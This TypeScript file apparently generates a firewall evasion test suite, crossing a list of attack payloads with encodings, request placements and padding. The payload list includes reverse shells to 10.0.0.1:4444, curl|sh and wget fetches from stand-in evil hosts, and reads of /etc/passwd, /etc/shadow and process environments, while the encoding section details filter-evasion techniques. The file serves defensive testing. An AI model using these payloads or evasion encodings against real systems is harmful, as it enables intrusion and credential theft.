// The evasion suite's generator: the project's own attack payloads × encodings × placements ×
// padding as core requests, deterministic. Used by test/unit/evasion.test.ts, test/fuzz/inputs.ts and
// models/train.ts (make model counts each candidate's failures).
//
// Payloads come only from this project: test/unit/score.test.ts's attack table and the
// hand-written lists in models/data (attacks_extra.ts CMDS/SEPS/CRLF_*, nosqli.ts JS_STRINGS,
// build.ts TRAVERSAL_TARGETS). Copied, not imported, so the generator does not move with models/.
// The rule (issue 9): a variant of a payload whose plain form is blocked is blocked too, and
// scores at most 10 above the plain form.

import type { Core, CoreRequest } from "./core";

// ------------------------------------------------------------------------------ payloads

export interface Payload {
  id: string;
  cls: string;
  /** The parameter (or field, cookie) name the value travels under. */
  param: string;
  /** The attack value itself, as score.test.ts or the generator sends it. */
  value: string;
  /** Where the plain form is scored: the rule's reference score. */
  home: PlacementId;
  /** The value with `§` where ~32 bytes of one repeated character fit without changing what it does. */
  inside?: string;
  /** That character (default `a`). */
  fill?: string;
}

const P = (cls: string, param: string, value: string, home: PlacementId, inside?: string, fill?: string): Omit<Payload, "id"> =>
  ({ cls, param, value, home, inside, fill });

// score.test.ts `attacks` (all but the known-failing backtick one and the XML body, which has
// no value to move), then models/data's generator lists.
const PAYLOAD_LIST: Omit<Payload, "id">[] = [
  P("sqli", "id", "1' OR '1'='1", "query", "1'/*§*/OR/*§*/'1'='1"),
  P("sqli", "id", "1 UNION SELECT username,password FROM users--", "query", "1 UNION/*§*/SELECT username,password FROM users--"),
  P("sqli", "user", "admin'--", "form", "admin'/*§*/--"),
  P("sqli", "id", "1; DROP TABLE users--", "json", "1;§DROP TABLE users--", " "),
  P("sqli", "id", "1 AND SLEEP(5)", "query", "1/*§*/AND SLEEP(5)"),
  P("xss", "q", "<script>alert(1)</script>", "query", "<script>/*§*/alert(1)</script>"),
  P("xss", "comment", "<img src=x onerror=alert(1)>", "json", "<img src=x title=§ onerror=alert(1)>"),
  P("xss", "c", "<svg onload=alert(1)>", "form", "<svg class=§ onload=alert(1)>"),
  P("xss", "u", "javascript:alert(document.cookie)", "query", "javascript:/*§*/alert(document.cookie)"),
  P("rce", "host", ";cat /etc/passwd", "form", ";cat§/etc/passwd", " "),
  P("rce", "x", "$(id)", "query", "$(§id)", " "),
  P("rce", "host", "example.com;id", "form", "example.com;§id", " "),
  P("rce", "host", "|nc -e /bin/sh 10.0.0.1 4444", "form", "|nc -e§/bin/sh 10.0.0.1 4444", " "),
  P("rce", "host", "8.8.8.8;cat /etc/passwd", "form", "8.8.8.8;cat§/etc/passwd", " "),
  P("rce", "host", "example.com && curl http://evil.com/x.sh | sh", "form", "example.com &&§curl http://evil.com/x.sh | sh", " "),
  P("rce", "host", ";ls -la", "form", ";ls§-la", " "),
  P("rce", "host", "8.8.8.8;uname -a", "form", "8.8.8.8;uname§-a", " "),
  P("rce", "ip", "127.0.0.1;id", "query", "127.0.0.1;§id", " "),
  P("rce", "ip", "127.0.0.1|whoami", "query", "127.0.0.1|§whoami", " "),
  P("traversal", "file", "../../../../etc/passwd", "query", "..§../../../etc/passwd", "/"),
  P("traversal", "f", "..%2F..%2F..%2Fetc%2Fpasswd", "query"),
  P("jndi", "x", "${jndi:ldap://evil.com/a}", "query", "${jndi:ldap://evil.com/§}"),
  P("ssti", "name", "{{7*7}}", "query", "{{§7*7}}", " "),
  P("ssti", "name", "{{config.__class__.__init__.__globals__}}", "json", "{{§config.__class__.__init__.__globals__}}", " "),
  P("ssrf", "url", "http://169.254.169.254/latest/meta-data/", "query", "http://169.254.169.254/§latest/meta-data/", "/"),
  P("ldapi", "user", "*)(uid=*))(|(uid=*", "query"),
  P("crlf", "next", "%0d%0aSet-Cookie:%20a=b", "query", "%0d%0aSet-Cookie:§a=b", " "),
  P("open_redirect", "next", "//evil.com", "query", "/§/evil.com", "/"),
  // models/data/attacks_extra.ts: a plausible value, a separator (SEPS) and a command (CMDS).
  P("rce", "cmd", "127.0.0.1; cat /etc/shadow", "query", "127.0.0.1;§cat /etc/shadow", " "),
  P("rce", "ip", "8.8.8.8 && bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "form", "8.8.8.8 &&§bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", " "),
  P("rce", "domain", "example.com | wget http://evil.example/a -O /tmp/a", "query", "example.com |§wget http://evil.example/a -O /tmp/a", " "),
  P("rce", "file", "report.pdf`cat /proc/self/environ`", "json", "report.pdf`§cat /proc/self/environ`", " "),
  P("rce", "target", "localhost$(curl http://evil.example/x.sh | sh)", "query", "localhost$(§curl http://evil.example/x.sh | sh)", " "),
  P("rce", "host", "example.com;python -c \"import os;os.system('id')\"", "form", "example.com;§python -c \"import os;os.system('id')\"", " "),
  // build.ts TRAVERSAL_TARGETS.
  P("traversal", "page", "../../../../windows/win.ini", "query", "..§../../../windows/win.ini", "/"),
  P("traversal", "template", "../../../../proc/self/environ", "query", "..§../../../proc/self/environ", "/"),
  // attacks_extra.ts CRLF_SEQS × CRLF_HEADERS.
  P("crlf", "lang", "en%0d%0aLocation:%20https://evil.example/", "query", "en%0d%0aLocation:§https://evil.example/", " "),
  P("crlf", "redirect", "%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection", "query"),
  // nosqli.ts JS_STRINGS: JavaScript injected into a $where string.
  P("nosqli", "username", "admin' || '1'=='1", "json", "admin'§|| '1'=='1", " "),
  P("nosqli", "password", "'; sleep(5000); var x='", "json", "';§sleep(5000); var x='", " "),
];

export const PAYLOADS: Payload[] = PAYLOAD_LIST.map((p, i) => ({ ...p, id: `${p.cls}#${String(i).padStart(2, "0")}` }));

// ------------------------------------------------------------------------------ seeded randomness

import { prng } from "./prng";
export { prng };

/** FNV-1a over a string: a variant's own seed, so a variant is the same whichever set it is drawn in. */
function hash32(s: string): number {
  let h = 0x811c9dc5;
  for (let i = 0; i < s.length; i++) { h ^= s.charCodeAt(i); h = Math.imul(h, 0x01000193); }
  return h >>> 0;
}

// ------------------------------------------------------------------------------ encodings

const utf8 = new TextEncoder();
const hex2 = (b: number) => b.toString(16).toUpperCase().padStart(2, "0");
const ALNUM = /[A-Za-z0-9]/;
export const BASE64_MIN = 16;

/** Replaces every character but letters and digits with what `f` makes of its code point. */
function eachSpecial(s: string, f: (cp: number, ch: string) => string): string {
  let out = "";
  for (const ch of s) out += ALNUM.test(ch) ? ch : f(ch.codePointAt(0)!, ch);
  return out;
}
const pct = (ch: string) => [...utf8.encode(ch)].map((b) => `%${hex2(b)}`).join("");

// Words whose case does not matter to what interprets them (SQL keywords, HTML tag and attribute
// names, URL schemes, Log4j lookups); a mixed-case variant changes only these.
const CASELESS = /\b(select|union|from|or|and|sleep|drop|table|script|img|src|onerror|svg|onload|class|title|javascript|jndi|ldap|set-cookie|location)\b/gi;

export interface Encoding {
  /** The encoded value, or null when the technique does not apply to this payload. */
  apply(value: string, p: Payload, rnd: () => number): string | null;
  /** Placements where it applies (default: all). */
  only?: PlacementId[];
}

export const ENCODINGS = {
  plain: { apply: (v) => v },
  url: { apply: (v) => eachSpecial(v, (_, ch) => pct(ch)) },
  "url-double": { apply: (v) => eachSpecial(v, (_, ch) => pct(ch).replace(/%/g, "%25")) },
  "percent-u": { apply: (v) => eachSpecial(v, (cp) => (cp < 0x10000 ? `%u${cp.toString(16).toUpperCase().padStart(4, "0")}` : pct(String.fromCodePoint(cp)))) },
  "entity-dec": { apply: (v) => eachSpecial(v, (cp) => `&#${cp};`) },
  "entity-hex": { apply: (v) => eachSpecial(v, (cp) => `&#x${cp.toString(16)};`) },
  // In a JSON body the placement writes these as JSON's own escapes (see placeJson).
  "escape-u": { apply: (v) => eachSpecial(v, (cp) => (cp < 0x10000 ? `\\u${cp.toString(16).padStart(4, "0")}` : String.fromCodePoint(cp))) },
  "escape-x": { apply: (v) => eachSpecial(v, (cp, ch) => (cp < 0x80 ? `\\x${hex2(cp).toLowerCase()}` : ch)) },
  // Only where the core looks for base64: a whole value (query, form and JSON values, multipart
  // fields, cookies, whole headers), not a path segment, a parameter name or the Referer's query.
  // And only from 16 characters (filter/decode/base64.ts MIN_BASE64_LENGTH: shorter values are
  // IDs and words far more often than hidden input), a limit the ledger records.
  base64: {
    apply: (v) => { const b = Buffer.from(v, "utf8").toString("base64"); return b.length >= BASE64_MIN ? b : null; },
    only: ["query", "form", "json", "multipart", "cookie", "user-agent", "x-forwarded-for"],
  },
  // URL-safe base64 without padding (RFC 4648 §5), as a token in a URL is sent: the only base64 a
  // path segment can carry whole (standard base64's '/' would split it). Since 2026-12-07.
  base64url: {
    apply: (v) => { const b = Buffer.from(v, "utf8").toString("base64url"); return b.length >= BASE64_MIN ? b : null; },
    only: ["path", "query", "form", "json", "cookie"],
  },
  // A shell drops quotes inside a word: `c''at /e''tc/p''asswd` runs `cat /etc/passwd`. Every word
  // of an rce payload that holds no quote of its own, split after its first letter. Since 2026-12-07.
  "shell-quotes": {
    apply: (v, p) => (p.cls === "rce" && !/['"]/.test(v) ? v.replace(/\b([a-z])([a-z]+)\b/g, "$1''$2") : null),
  },
  // Quoted-printable (RFC 2045 6.7) for every character but letters and digits, with the part's
  // Content-Transfer-Encoding saying so: Go's mime/multipart decodes it for the application.
  // Since 2026-12-07.
  "quoted-printable": {
    apply: (v) => eachSpecial(v, (_, ch) => [...utf8.encode(ch)].map((b) => `=${hex2(b)}`).join("")),
    only: ["multipart"],
  },
  // U+FF01–FF5E: what IIS/ASP.NET and some databases fold to ASCII.
  // A payload's own %HH escapes (CRLF, traversal) are transport, not text, and stay as they are.
  fullwidth: { apply: (v) => v.replace(/%[0-9A-Fa-f]{2}|[\x21-\x7e]/g, (c) => (c.length === 3 ? c : String.fromCharCode(c.charCodeAt(0) + 0xfee0))) },
  "mixed-case": {
    apply: (v, _p, rnd) => {
      // Alternating case from a random start per word: never the word as it was (all one case).
      const out = v.replace(CASELESS, (w) => { const k = rnd() < 0.5 ? 0 : 1; return [...w].map((c, i) => (i % 2 === k ? c.toUpperCase() : c.toLowerCase())).join(""); });
      return out === v ? null : out;
    },
  },
  "sql-comment": { apply: (v, p) => (p.cls === "sqli" && v.includes(" ") ? v.replace(/ /g, "/**/") : null) },
  // Overlong UTF-8 for every character but letters and digits, alternating the 2-byte (C0/C1 xx)
  // and 3-byte (E0 80 xx) forms, percent-encoded as a client must send bytes that are not UTF-8.
  overlong: {
    apply: (v) => {
      let k = 0;
      const out = eachSpecial(v, (cp, ch) => {
        if (cp >= 0x80) return ch;
        return k++ % 2 === 0
          ? `%${hex2(0xc0 | (cp >> 6))}%${hex2(0x80 | (cp & 0x3f))}`
          : `%E0%${hex2(0x80 | (cp >> 6))}%${hex2(0x80 | (cp & 0x3f))}`;
      });
      return k === 0 ? null : out;
    },
  },
} satisfies Record<string, Encoding>;
export type EncodingId = keyof typeof ENCODINGS;

// ------------------------------------------------------------------------------ padding

export const PAD_BYTES = 32;
export const PAD_LONG_BYTES = 8192;
/** 174 bytes of a customer's review, for pad-prose. */
const PROSE =
  "Ordered the blue one for my sister and it arrived two days early. The fabric feels sturdy, the stitching is neat and the size chart was right. Would buy again from this shop.";

/** Classes whose payload only works at the start of the value. */
const FRONT_FIXED = new Set(["open_redirect", "ssrf"]);

/** Applied to the value before encoding: the padding is part of what the attacker's value says. */
export const PADDINGS = {
  none: (p: Payload, v: string): string | null => v,
  // Not for a redirect target or URL: `aaaa//evil.com` is a relative path, `aaaahttp://169.254…` no URL.
  "pad-before": (p: Payload, v: string): string | null => (FRONT_FIXED.has(p.cls) ? null : "a".repeat(PAD_BYTES) + v),
  "pad-inside": (p: Payload): string | null => (p.inside ? p.inside.replace(/§/g, (p.fill ?? "a").repeat(PAD_BYTES)) : null),
  "pad-8k": (p: Payload, v: string): string | null => (FRONT_FIXED.has(p.cls) ? null : "a".repeat(PAD_LONG_BYTES) + v),
  // Ordinary sentences on both sides (the bag of features is a mean: a payload in a review's prose
  // was read diluted by it).
  "pad-prose": (p: Payload, v: string): string | null => (FRONT_FIXED.has(p.cls) ? null : `${PROSE} ${v} ${PROSE}`),
};
export type PaddingId = keyof typeof PADDINGS;

// ------------------------------------------------------------------------------ placements

/** Percent-encodes what the placement cannot carry raw: controls, space, non-ASCII and `extra`. `%` is never touched (the value may be encoded already). */
function wire(s: string, extra: string): string {
  let out = "";
  for (const ch of s) {
    const c = ch.codePointAt(0)!;
    out += c <= 0x20 || c === 0x7f || c >= 0x80 || extra.includes(ch) ? pct(ch) : ch;
  }
  return out;
}

const BASE_HEAD: Array<[string, string]> = [[":method", "GET"], [":scheme", "http"], [":authority", "shop.example.com"]];
function get(path: string, headers: Array<[string, string]> = []): CoreRequest {
  return { head: [...BASE_HEAD, [":path", path], ...headers] };
}
function post(contentType: string, body: string): CoreRequest {
  return { head: [[":method", "POST"], [":scheme", "http"], [":authority", "shop.example.com"], [":path", "/app/submit"], ["content-type", contentType]], body };
}

const BOUNDARY = "----wafscoreEvasion7MA4YWxkTrZu0gW";

// A JSON body with the value two containers deep; JSON's own \u escapes carry the escape-u encoding.
function placeJson(p: Payload, v: string, enc: EncodingId): CoreRequest {
  const literal = enc === "escape-u" ? `"${v.replace(/"/g, "\\u0022")}"` : JSON.stringify(v);
  return post("application/json", `{"order":{"items":[{"sku":"AB-123","qty":2}],"meta":{"${p.param}":${literal}}},"currency":"EUR"}`);
}

// A SOAP call with the value in an element, escaped as an XML writer escapes text (`<`, `>`, and an
// `&` that opens no character reference, so the entity encodings stay references).
function placeXml(p: Payload, v: string): CoreRequest {
  const text = v.replace(/&(?!#x?[0-9A-Fa-f]+;)/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
  return post("text/xml; charset=utf-8", '<?xml version="1.0" encoding="utf-8"?>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">' +
    `<soap:Header><auth:Token xmlns:auth="urn:shop:auth">3f7a9c2e1b4d8f6a</auth:Token></soap:Header><soap:Body><m:Search xmlns:m="urn:shop:catalog">` +
    `<m:page>2</m:page><m:${p.param}>${text}</m:${p.param}></m:Search></soap:Body></soap:Envelope>`);
}

export const PLACEMENTS: Record<PlacementId, (p: Payload, v: string, enc: EncodingId) => CoreRequest> = {
  query: (p: Payload, v: string) => get(`/app/search?page=2&${p.param}=${wire(v, "&#+")}`),
  "query-name": (p: Payload, v: string) => get(`/app/search?page=2&${wire(v, "&#+=")}=1`),
  path: (p: Payload, v: string) => get(`/app/files/${wire(v, "?#")}`),
  form: (p: Payload, v: string) => post("application/x-www-form-urlencoded", `${p.param}=${wire(v, "&+")}&submit=Send`),
  json: (p: Payload, v: string, enc: EncodingId) => placeJson(p, v, enc),
  xml: (p: Payload, v: string) => placeXml(p, v),
  // A query parameter whose value is a JSON document (filters, search options), percent-encoded as
  // URLSearchParams writes it.
  "query-json": (p: Payload, v: string, enc: EncodingId) =>
    get(`/app/search?page=2&filter=${encodeURIComponent(enc === "escape-u" ? `{"sort":"price","${p.param}":"${v.replace(/"/g, "\\u0022")}","limit":20}` : JSON.stringify({ sort: "price", [p.param]: v, limit: 20 }))}`),
  multipart: (p: Payload, v: string, enc: EncodingId) => post(`multipart/form-data; boundary=${BOUNDARY}`,
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="title"\r\n\r\nMy order\r\n` +
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${p.param}"\r\n` +
    (enc === "quoted-printable" ? "Content-Transfer-Encoding: quoted-printable\r\n" : "") + `\r\n${v}\r\n--${BOUNDARY}--\r\n`),
  cookie: (p: Payload, v: string) => get("/app/account", [["cookie", `session=3f7a9c2e1b4d8f6a; ${p.param}=${wire(v, ';,"\\')}; theme=dark`]]),
  "user-agent": (_p: Payload, v: string) => get("/app/", [["user-agent", headerSafe(v)]]),
  referer: (p: Payload, v: string) => get("/app/", [["referer", `https://shop.example.com/search?${p.param}=${wire(v, "&#+")}`]]),
  // A header outside the three the filter once scored alone (User-Agent, Referer, Cookie).
  "x-forwarded-for": (_p: Payload, v: string) => get("/app/", [["x-forwarded-for", headerSafe(v)]]),
};
export type PlacementId = "query" | "query-name" | "path" | "form" | "json" | "xml" | "query-json" | "multipart" | "cookie" | "user-agent" | "referer" | "x-forwarded-for";

/** A header value carries anything but CR, LF and NUL (non-ASCII as raw UTF-8, as Envoy passes it on). */
function headerSafe(v: string): string {
  return v.replace(/[\r\n\0]/g, (c) => pct(c));
}

// Where each class plausibly arrives: models/data/contexts.ts CLASS_WHERES (copied, see above),
// with query also giving the parameter name and Referer its query.
const CLASS_PLACEMENTS: Record<string, PlacementId[]> = {
  sqli: ["query", "query-name", "form", "json", "query-json", "xml", "cookie", "path", "user-agent", "referer", "x-forwarded-for", "multipart"],
  xss: ["query", "query-name", "form", "json", "query-json", "xml", "multipart", "path", "cookie", "referer", "user-agent"],
  traversal: ["path", "query", "query-name", "json", "query-json", "xml", "form", "cookie", "multipart"],
  rce: ["query", "query-name", "form", "json", "query-json", "xml", "user-agent", "cookie", "multipart", "path", "referer", "x-forwarded-for"],
  ssti: ["query", "query-name", "form", "json", "query-json", "xml", "multipart", "user-agent", "path", "cookie"],
  ssrf: ["query", "query-name", "json", "query-json", "xml", "form", "path", "referer"],
  open_redirect: ["query", "form", "json", "query-json", "path"],
  jndi: ["user-agent", "x-forwarded-for", "referer", "cookie", "query", "query-name", "json", "query-json", "xml", "form", "path"],
  nosqli: ["json", "query-json", "xml", "query", "query-name", "form"],
  crlf: ["query", "query-name", "path", "form"],
  ldapi: ["query", "query-name", "form", "json", "query-json", "xml"],
};

// ------------------------------------------------------------------------------ variants

export interface Variant extends VariantSpec {
  key: string;             // payload id / encoding / placement / padding
  request: CoreRequest;
}

export const ENCODING_IDS = Object.keys(ENCODINGS) as EncodingId[];
export const PLACEMENT_IDS = Object.keys(PLACEMENTS) as PlacementId[];
export const PADDING_IDS = Object.keys(PADDINGS) as PaddingId[];

/** The four choices that make a variant; build() makes its request. */
export interface VariantSpec { payload: Payload; encoding: EncodingId; placement: PlacementId; padding: PaddingId }

/** Whether the techniques apply to the payload (cheap: no request is built, no 8 KiB encoded). */
export function applicable(s: VariantSpec): boolean {
  if (!CLASS_PLACEMENTS[s.payload.cls].includes(s.placement)) return false;
  const enc: Encoding = ENCODINGS[s.encoding];
  if (enc.only && !enc.only.includes(s.placement)) return false;
  // 8 KiB of `a` before changes nothing an encoding's applicability depends on that 32 do not.
  const padded = PADDINGS[s.padding === "pad-8k" ? "pad-before" : s.padding](s.payload, s.payload.value);
  return padded !== null && enc.apply(padded, s.payload, prng(0)) !== null;
}

/** The variant a spec makes, or null when a technique does not apply. Deterministic in its inputs. */
export function build(s: VariantSpec): Variant | null {
  if (!applicable(s)) return null;
  const padded = PADDINGS[s.padding](s.payload, s.payload.value)!;
  const key = `${s.payload.id}/${s.encoding}/${s.placement}/${s.padding}`;
  const value = (ENCODINGS[s.encoding] as Encoding).apply(padded, s.payload, prng(hash32(key)));
  if (value === null) return null;
  return { key, ...s, request: PLACEMENTS[s.placement](s.payload, value, s.encoding) };
}

export function makeVariant(payload: Payload, encoding: EncodingId, placement: PlacementId, padding: PaddingId): Variant | null {
  return build({ payload, encoding, placement, padding });
}

/** Every applicable spec, in a fixed order. */
export function allSpecs(): VariantSpec[] {
  const out: VariantSpec[] = [];
  for (const payload of PAYLOADS) for (const encoding of ENCODING_IDS) for (const placement of PLACEMENT_IDS) for (const padding of PADDING_IDS) {
    const s = { payload, encoding, placement, padding };
    if (applicable(s)) out.push(s);
  }
  return out;
}

/** Every variant, in a fixed order. */
export function* allVariants(): Generator<Variant> {
  for (const s of allSpecs()) yield build(s)!;
}

/** The plain form: the payload as it is, in its home placement, unpadded. */
export function plainVariant(p: Payload): Variant {
  return makeVariant(p, "plain", p.home, "none")!;
}

/**
 * A seeded sample of about `n` variants that covers every technique: each encoding, placement
 * and padding is used by at least `perTechnique` variants free of the other `pending` techniques
 * (as far as such variants exist), the rest drawn at random.
 */
export function sampleVariants(n: number, seed: number, perTechnique = 6, pending: readonly string[] = []): Variant[] {
  const all = allSpecs();
  const rnd = prng(seed);
  const order = all.map((_, i) => i);
  for (let i = order.length - 1; i > 0; i--) { const j = Math.floor(rnd() * (i + 1)); [order[i], order[j]] = [order[j], order[i]]; }
  const picked = new Set<number>();
  const count = new Map<string, number>();
  for (const i of order) {
    const ts = techniquesOf(all[i]);
    // The techniques this variant is judged under: all of them when none is pending, else the one pending.
    const p = ts.filter((t) => pending.includes(t));
    const judged = p.length === 0 ? ts : p.length === 1 ? p : [];
    if (judged.some((t) => (count.get(t) ?? 0) < perTechnique)) {
      picked.add(i);
      for (const t of judged) count.set(t, (count.get(t) ?? 0) + 1);
    }
  }
  for (const i of order) { if (picked.size >= n) break; picked.add(i); }
  return [...picked].sort((a, b) => a - b).map((i) => build(all[i])!);
}

/** The techniques a variant uses (the plain encoding, the payload's home and no padding are none). */
export function techniquesOf(v: VariantSpec): string[] {
  const t: string[] = [];
  if (v.encoding !== "plain") t.push(v.encoding);
  if (v.placement !== v.payload.home) t.push(`in:${v.placement}`);
  if (v.padding !== "none") t.push(v.padding);
  return t;
}

// ------------------------------------------------------------------------------ the rule

export const MAX_RISE = 10;

export interface Outcome { variant: Variant; score: number; plain: number; ok: boolean }

export class EvasionJudge {
  readonly threshold: number;
  private plain = new Map<string, number>();
  constructor(private core: Core) {
    this.threshold = Number(core.configDefault("threshold"));
  }
  /** The plain form's score (cached per payload). */
  plainScore(p: Payload): number {
    let s = this.plain.get(p.id);
    if (s === undefined) { s = this.core.scoreRequest(plainVariant(p).request).score; this.plain.set(p.id, s); }
    return s;
  }
  /** Whether the rule applies: the plain form is blocked. */
  applies(p: Payload): boolean { return this.plainScore(p) <= this.threshold; }
  judge(v: Variant): Outcome {
    const plain = this.plainScore(v.payload);
    const score = this.core.scoreRequest(v.request).score;
    return { variant: v, score, plain, ok: score <= this.threshold && score <= plain + MAX_RISE };
  }
}

/** Failing outcomes grouped by technique (a variant is listed under each of its techniques), for messages. */
export function groupFailures(outcomes: Outcome[]): Map<string, Outcome[]> {
  const g = new Map<string, Outcome[]>();
  for (const o of outcomes) {
    if (o.ok) continue;
    for (const t of techniquesOf(o.variant).length ? techniquesOf(o.variant) : ["(plain)"]) {
      if (!g.has(t)) g.set(t, []);
      g.get(t)!.push(o);
    }
  }
  return g;
}

export function describeOutcome(o: Outcome): string {
  return `${o.variant.key}: ${o.score} (plain ${o.plain})`;
}

/**
 * Variants of the evasion suite (all of them) the model core runs fails, and how many of them use
 * each technique (a variant counted under each of its own): which evasion a retrain's seed did not learn.
 * models/train.ts reads it for each seed, models/evaluate.ts for the model it scores.
 */
export function evasionFailures(core: Core): { failing: number; byTechnique: Map<string, number> } {
  const judge = new EvasionJudge(core);
  let failing = 0;
  const byTechnique = new Map<string, number>();
  for (const v of allVariants()) {
    if (!judge.applies(v.payload) || judge.judge(v).ok) continue;
    failing++;
    for (const t of techniquesOf(v)) byTechnique.set(t, (byTechnique.get(t) ?? 0) + 1);
  }
  return { failing, byTechnique };
}

/** The k techniques with the most failing variants, as `technique count, …` ("" when none fails). */
export function worstTechniques(byTechnique: Map<string, number>, k = 4): string {
  return [...byTechnique].sort((a, b) => b[1] - a[1]).slice(0, k).map(([t, c]) => `${t} ${c}`).join(", ");
}
